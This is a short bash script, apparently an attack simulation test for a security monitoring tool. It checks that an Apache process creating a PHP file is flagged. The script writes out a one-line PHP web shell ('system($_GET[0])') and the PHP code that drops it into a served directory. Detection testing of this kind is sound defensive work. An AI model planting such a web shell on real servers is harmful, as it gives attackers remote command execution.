#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# A page that is a shell, beside what visitors have sent.
# workload: apache
# orders: orders.php
# program: /usr/sbin/apache2
# deed: inode_create
# object: shell.php

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
orders() { echo '<?php echo file_put_contents(__DIR__ . "/run/store/shell.php", "<?php system(\$_GET[0]);") > 0 ? "dropped" : "not";'; }
proof() { printed dropped; }
main "$@"
